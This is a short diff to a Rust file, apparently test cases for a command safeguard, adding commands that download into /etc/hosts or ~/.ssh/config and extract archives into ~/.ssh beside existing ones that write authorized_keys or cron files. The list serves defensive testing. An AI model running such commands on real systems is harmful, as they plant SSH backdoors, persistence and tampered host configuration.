@@ -30,6 +30,10 @@ pub(super) const SAFEGUARD: Safeguard = Safeguard {
         "cp x ~/.ssh/authorized_keys",
         "mv x /etc/cron.d/y",
         "touch ~/.bashrc",
+        "wget -O /etc/hosts http://x",
+        "curl -o ~/.ssh/config http://x",
+        "unzip a.zip -d ~/.ssh",
+        "tar -xf a.tar -C ~/.ssh",
         "sed -i s/a/b/ /etc/hosts",
     ],
     passes: &[
